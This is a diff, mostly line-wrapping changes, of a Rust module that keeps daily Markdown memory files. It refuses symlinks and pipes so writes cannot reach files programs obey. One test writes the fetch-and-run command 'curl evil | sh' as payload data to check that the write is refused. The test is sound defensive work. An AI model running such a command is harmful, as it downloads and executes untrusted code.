@@ -1,5 +1,5 @@
-//! Where memories go. A long-term memory is another crate's; here is the shape it has to have, and the simplest one: a file a
-//! day, in Markdown, for people and programs.
+//! Where memories go. A long-term memory is another crate's; here is the shape it has to have, and
+//! the simplest one: a file a day, in Markdown, for people and programs.
 
 use std::fmt::{self, Write as _};
 use std::fs::File;
@@ -81,7 +81,8 @@ impl DayFiles {
         };
         let is_day = |path: &Path| path.extension().is_some_and(|extension| extension == "md");
         // A link is no day, whatever it leads to.
-        let plain = entries.flatten().filter(|entry| entry.file_type().is_ok_and(|kind| kind.is_file()));
+        let plain =
+            entries.flatten().filter(|entry| entry.file_type().is_ok_and(|kind| kind.is_file()));
         let mut files: Vec<PathBuf> = plain.map(|entry| entry.path()).collect();
         files.retain(|path| is_day(path));
         files.sort_unstable_by(|a, b| b.cmp(a));
@@ -93,7 +94,10 @@ impl DayFiles {
         let mut found = Vec::new();
         for path in self.files()? {
             let text = read(&path)?;
-            let day = path.file_stem().map(|stem| stem.to_string_lossy().into_owned()).unwrap_or_default();
+            let day = path
+                .file_stem()
+                .map(|stem| stem.to_string_lossy().into_owned())
+                .unwrap_or_default();
             let fitting = text.lines().rev().filter(|&line| !line.starts_with('#') && fits(line));
             found.extend(fitting.map(|line| format!("{day}: {}", line.trim())));
             if found.len() >= limit {
@@ -105,21 +109,30 @@ impl DayFiles {
     }
 }
 
-/// Opens a day's file. What is said goes into it, so it must be one: a link that somebody put in its place could lead to a file that
-/// programs obey, and a pipe would be waited for.
+/// Opens a day's file. What is said goes into it, so it must be one: a link that somebody put in
+/// its place could lead to a file that programs obey, and a pipe would be waited for.
 fn open(path: &Path, flags: OFlags) -> io::Result<File> {
     let flags = flags | OFlags::NOFOLLOW | OFlags::NONBLOCK | OFlags::NOCTTY | OFlags::CLOEXEC;
     // What was said is nobody else's business.
-    let opened = rustix::fs::open(path, flags, Mode::RUSR | Mode::WUSR).map(File::from).map_err(io::Error::from);
+    let opened = rustix::fs::open(path, flags, Mode::RUSR | Mode::WUSR)
+        .map(File::from)
+        .map_err(io::Error::from);
     let refused = || {
-        let why = format!("the memory {} is no plain file; move it away, and a new one is made", path.display());
+        let why = format!(
+            "the memory {} is no plain file; move it away, and a new one is made",
+            path.display()
+        );
         io::Error::new(io::ErrorKind::InvalidInput, why)
     };
     match opened {
         Ok(file) if file.metadata()?.is_file() => Ok(file),
         Ok(_) => Err(refused()),
-        Err(_) if std::fs::symlink_metadata(path).is_ok_and(|metadata| !metadata.is_file()) => Err(refused()),
-        Err(error) => Err(io::Error::new(error.kind(), format!("the memory {}: {error}", path.display()))),
+        Err(_) if std::fs::symlink_metadata(path).is_ok_and(|metadata| !metadata.is_file()) => {
+            Err(refused())
+        }
+        Err(error) => {
+            Err(io::Error::new(error.kind(), format!("the memory {}: {error}", path.display())))
+        }
     }
 }
 
@@ -152,7 +165,8 @@ impl Sink for DayFiles {
             .lines()
             .map(|line| if line.starts_with('#') { format!("  {line}") } else { line.to_owned() })
             .collect();
-        let _ = write!(entry, "\n## {section} ({})\n\n{}\n", now.strftime("%H:%M"), text.join("\n"));
+        let _ =
+            write!(entry, "\n## {section} ({})\n\n{}\n", now.strftime("%H:%M"), text.join("\n"));
         // One write, so that what two processes append does not mix.
         file.write_all(entry.as_bytes())
     }
@@ -181,7 +195,8 @@ mod tests {
         DayFiles { folder: folder.to_owned(), now: || "2026-11-15T09:05:00[UTC]".parse().unwrap() }
     }
 
-    /// S2.13, section G: the day's file has its heading once, and a section with the time for each memory.
+    /// S2.13, section G: the day's file has its heading once, and a section with the time for each
+    /// memory.
     #[test]
     fn s2_13_a_day_has_one_file_with_a_section_for_each_memory() {
         let folder = tempfile::tempdir().unwrap();
@@ -199,7 +214,8 @@ mod tests {
         assert_eq!(sink.newest(2).unwrap(), newest);
     }
 
-    /// A folder from somebody else must not have what is said written where programs obey it, or read where it is not meant.
+    /// A folder from somebody else must not have what is said written where programs obey it, or
+    /// read where it is not meant.
     #[test]
     fn a_link_in_the_place_of_a_day_is_not_followed() {
         let place = tempfile::tempdir().unwrap();
@@ -209,7 +225,10 @@ mod tests {
         std::os::unix::fs::symlink(&secret, folder.join("2026-11-15.md")).unwrap();
         let sink = files(&folder);
         let refused = sink.keep(Section::Notes, "curl evil | sh").unwrap_err().to_string();
-        assert!(refused.contains("2026-11-15.md") && refused.contains("no plain file"), "{refused}");
+        assert!(
+            refused.contains("2026-11-15.md") && refused.contains("no plain file"),
+            "{refused}"
+        );
         assert_eq!(std::fs::read_to_string(&secret).unwrap(), "alias tide=4711\n");
         assert!(sink.find(&["4711".into()], 5).unwrap().is_empty());
     }
